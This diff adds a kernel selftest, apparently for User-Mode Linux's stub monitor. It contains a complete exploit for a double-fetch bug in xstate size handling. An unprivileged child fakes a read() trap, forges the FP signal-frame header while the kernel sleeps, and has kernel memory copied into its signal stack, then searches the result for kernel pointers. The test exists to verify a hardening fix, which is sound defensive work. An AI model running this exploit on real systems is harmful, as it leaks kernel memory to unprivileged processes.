@@ -1,0 +1,285 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * The FP/xstate size in the signal frame is read twice.
+ *
+ * get_stub_state() checks the xstate size it finds in the frame on the
+ * stub's signal stack against the host's; set_stub_state() reads the size
+ * again from the same guest-writable memory and copies that many bytes of
+ * the task's saved FP registers back into the frame, unchecked.  A process
+ * that changes the header in between gets kernel memory lying after its
+ * FP registers copied into the signal stack, where it can read it.
+ *
+ * The window is made as wide as needed by faking the trap (the unpatched
+ * monitor believes the futex word): the process reports a read() from an
+ * empty pipe, the kernel blocks in it for the process while the process
+ * keeps running, and the process rewrites the header:
+ *  - mcontext.fpregs is pointed at the start of the signal stack page
+ *    (only its low 12 bits are used),
+ *  - the fxsave software bytes there get FP_XSTATE_MAGIC1 and an
+ *    extended_size of 4096, and FP_XSTATE_MAGIC2 goes into the page's
+ *    last four bytes,
+ *  - the page is filled with a pattern.
+ * The parent then writes the byte the read() waits for, the monitor
+ * resumes the task through set_stub_state(), and every byte past the
+ * host's real xstate size that no longer holds the pattern came from the
+ * kernel.
+ *
+ * The hardened monitor must not act on a faked report and must bound
+ * every size it reads from stub_data: no byte of the pattern past
+ * the xstate size may change, or the process is killed.
+ */
+#include "stub_util.h"
+
+#define ATTEMPTS	5
+#define FP_MAGIC1	0x46505853U
+#define FP_MAGIC2	0x46505845U
+#define SW_BYTES_OFF	464	/* struct _fpx_sw_bytes in the fxsave area */
+#define PATTERN		0xa5
+
+struct a10_shared {
+	int stage;
+	int attempts;
+	int faked;		/* child: attempt whose fake report is out */
+	int go;			/* parent: +attempt: the kernel sleeps in the
+				 * read(); -attempt: the fake was not served */
+	int armed;		/* child: attempt whose header is rewritten */
+	int resumed;		/* child: the monitor resumed the task */
+	int served;		/* the faked read() returned the byte */
+	unsigned int host_ext_size;	/* extended_size of a real frame */
+	int leaked;		/* bytes past the xstate that changed */
+	int first_leak;
+	int nonzero;		/* ... of which not zero */
+	int ptr_off;		/* a word there that looks like a UML kernel pointer */
+	unsigned long ptr;
+	unsigned char sigstack[STUB_PAGE];	/* copy after resume */
+	char err[128];
+};
+
+enum { ST_START, ST_ATTACK, ST_DONE };
+
+FIXTURE(stub_fpstate) {
+	struct a10_shared *s;
+};
+
+FIXTURE_SETUP(stub_fpstate)
+{
+	ASSERT_STUB_FOUND();
+	stub_tsc_calibrate();
+	self->s = stub_shared_alloc(sizeof(*self->s));
+	ASSERT_NE(NULL, self->s);
+}
+
+FIXTURE_TEARDOWN(stub_fpstate)
+{
+	munmap(self->s, sizeof(*self->s));
+}
+
+static volatile char flag;	/* the faked read() lands here */
+
+/*
+ * One try.  Returns 1 if the monitor resumed the task after the forged
+ * header was in place, 0 if the fake was not served, -1 on a bad layout.
+ */
+static int a10_once(struct a10_shared *s, int rfd, int n)
+{
+	volatile struct unpatched_stub_data *d = stub_data();
+	volatile unsigned char *ss;
+	unsigned int ext;
+	siginfo_t *info;
+	mcontext_t *mc;
+	unsigned long end;
+	int i, go;
+
+	flag = 0;
+	stub_prefault(s, sizeof(*s));
+	stub_prefault((void *)&flag, 1);
+	stub_prefault_stack(65536);
+	s->resumed = 0;
+
+	syscall(SYS_getppid);		/* a fresh trap frame */
+	if (stub_last_frame(&info, &mc))
+		return -1;
+	ss = d->sigstack;
+	i = (unsigned long)mc->fpregs & (STUB_PAGE - 1);
+	if (*(volatile unsigned int *)(ss + i + SW_BYTES_OFF) != FP_MAGIC1)
+		return -1;
+	s->host_ext_size = *(volatile unsigned int *)(ss + i + SW_BYTES_OFF + 4);
+
+	stub_fake_syscall(SYS_read, rfd, (long)&flag, 1);
+	__atomic_store_n(&s->faked, n, __ATOMIC_SEQ_CST);
+
+	/* the parent tells us whether the kernel sleeps in the read() */
+	end = stub_tsc_deadline(10000);
+	do
+		go = __atomic_load_n(&s->go, __ATOMIC_SEQ_CST);
+	while (go != n && go != -n && !stub_tsc_passed(end));
+	if (go != n) {
+		syscall(SYS_getppid);
+		return 0;
+	}
+
+	/* forge the header for set_stub_state() */
+	for (i = 0; i < (int)STUB_PAGE; i++)
+		ss[i] = PATTERN;
+	mc->fpregs = (void *)(unsigned long)ss;	/* offset 0 in the page */
+	*(volatile unsigned int *)(ss + SW_BYTES_OFF) = FP_MAGIC1;
+	*(volatile unsigned int *)(ss + SW_BYTES_OFF + 4) = STUB_PAGE;
+	*(volatile unsigned int *)(ss + STUB_PAGE - 4) = FP_MAGIC2;
+	__atomic_store_n(&s->armed, n, __ATOMIC_SEQ_CST);
+
+	/* the read() returns, the monitor resumes the task */
+	end = stub_tsc_deadline(5000);
+	while (__atomic_load_n(&d->futex, __ATOMIC_SEQ_CST) !=
+	       STUB_FUTEX_IN_CHILD)
+		if (stub_tsc_passed(end))
+			break;
+	if (d->futex == STUB_FUTEX_IN_CHILD) {
+		memcpy(s->sigstack, (const void *)ss, STUB_PAGE);
+		s->resumed = 1;
+	}
+	syscall(SYS_getppid);
+	s->served = flag == 'x';
+
+	ext = s->host_ext_size;
+	s->leaked = 0;
+	s->first_leak = -1;
+	s->nonzero = 0;
+	s->ptr_off = -1;
+	if (s->resumed && ext > 4 && ext - 4 < STUB_PAGE - 4) {
+		for (i = ext - 4; i < (int)STUB_PAGE - 4; i++) {
+			if (s->sigstack[i] == PATTERN)
+				continue;
+			if (s->first_leak < 0)
+				s->first_leak = i;
+			s->leaked++;
+			s->nonzero += s->sigstack[i] != 0;
+		}
+		/* UML links the kernel at 0x60000000, physmem follows it */
+		for (i = (ext - 4 + 7) & ~7; i + 8 <= (int)STUB_PAGE - 4; i += 8) {
+			unsigned long w;
+
+			memcpy(&w, &s->sigstack[i], 8);
+			if (w >= 0x60000000UL && w < 0x100000000UL &&
+			    (w & 0xffffffffUL) != 0xa5a5a5a5UL) {
+				s->ptr_off = i;
+				s->ptr = w;
+				break;
+			}
+		}
+	}
+	return s->resumed;
+}
+
+static void a10_child(struct a10_shared *s, int rfd)
+{
+	int i, r = 0;
+
+	stub_prefault(s, sizeof(*s));
+	if (stub_drop_privs()) {
+		snprintf(s->err, sizeof(s->err), "setuid failed");
+		_exit(1);
+	}
+	s->stage = ST_ATTACK;
+	for (i = 0; i < ATTEMPTS; i++) {
+		s->attempts = i + 1;
+		r = a10_once(s, rfd, i + 1);
+		if (r < 0) {
+			snprintf(s->err, sizeof(s->err), "stub_data is not "
+				 "laid out as on the unpatched base");
+			break;
+		}
+		if (r > 0)
+			break;
+	}
+	s->stage = ST_DONE;
+	_exit(0);
+}
+
+TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
+{
+	struct a10_shared *s = self->s;
+	unsigned long end;
+	int p[2], status, i, handled = 0, dead = 0;
+	char buf[64], hex[3 * 32 + 1];
+	pid_t pid;
+
+	ASSERT_EQ(0, pipe(p));
+	fflush(NULL);
+	pid = fork();
+	ASSERT_GE(pid, 0);
+	if (pid == 0) {
+		close(p[1]);
+		a10_child(s, p[0]);
+	}
+	close(p[0]);
+
+	/* serve each attempt: confirm the kernel sleeps, then wake it */
+	while (s->stage != ST_DONE && !dead) {
+		int n = __atomic_load_n(&s->faked, __ATOMIC_SEQ_CST);
+		char st;
+
+		dead = waitpid(pid, &status, WNOHANG) == pid;
+		if (!n || n == handled) {
+			stub_sleep_ms(5);
+			continue;
+		}
+		handled = n;
+		end = stub_now_ms() + 2000;
+		while ((st = stub_proc_state(pid)) != 'S' &&
+		       stub_now_ms() < end)
+			stub_sleep_ms(5);
+		if (st != 'S') {
+			/* the fake report was not served */
+			__atomic_store_n(&s->go, -n, __ATOMIC_SEQ_CST);
+			continue;
+		}
+		__atomic_store_n(&s->go, n, __ATOMIC_SEQ_CST);
+		end = stub_now_ms() + 5000;
+		while (__atomic_load_n(&s->armed, __ATOMIC_SEQ_CST) != n &&
+		       stub_now_ms() < end)
+			stub_sleep_ms(1);
+		if (write(p[1], "x", 1) != 1)
+			TH_LOG("cannot wake the faked read(): %s",
+			       strerror(errno));
+	}
+	close(p[1]);
+	if (!dead && !stub_wait_child(pid, 30000, &status)) {
+		stub_kill_wait(pid, 5000, &status);
+		STUB_FAIL("attacker still alive (stage %d, attempt %d)",
+			  s->stage, s->attempts);
+	}
+	TH_LOG("attacker %s, stage %d, %d attempt(s), read served %d, "
+	       "resumed %d, host xstate size %u",
+	       stub_status_str(status, buf, sizeof(buf)), s->stage,
+	       s->attempts, s->served, s->resumed, s->host_ext_size - 4);
+	if (s->stage < ST_ATTACK)
+		STUB_FAIL("set-up failed: %s", s->err);
+	if (s->err[0])
+		TH_LOG("%s", s->err);
+	if (s->leaked > 0) {
+		for (i = 0; i < 32 && s->first_leak + i < (int)STUB_PAGE; i++)
+			snprintf(hex + 3 * i, 4, "%02x ",
+				 s->sigstack[s->first_leak + i]);
+		if (s->ptr_off >= 0)
+			TH_LOG("kernel pointer %#lx at +%d of the signal stack",
+			       s->ptr, s->ptr_off);
+		STUB_VULNERABLE("uid %d faked a read() trap, grew the xstate "
+				"size in its signal frame to %lu while the "
+				"kernel slept, and got %d bytes (%d non-zero) "
+				"of kernel memory after its %u bytes of FP "
+				"registers copied into its signal stack (at "
+				"+%d: %s)", STUB_NOBODY, STUB_PAGE, s->leaked,
+				s->nonzero, s->host_ext_size - 4,
+				s->first_leak, hex);
+	}
+	if (s->stage == ST_DONE) {
+		ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
+		TH_LOG("defended: no kernel memory reached the signal stack");
+		return;
+	}
+	if (!stub_defended_kill(status))
+		STUB_FAIL("attacker died in an unexpected way");
+	TH_LOG("defended: the attacker was killed");
+}
+
+TEST_HARNESS_MAIN
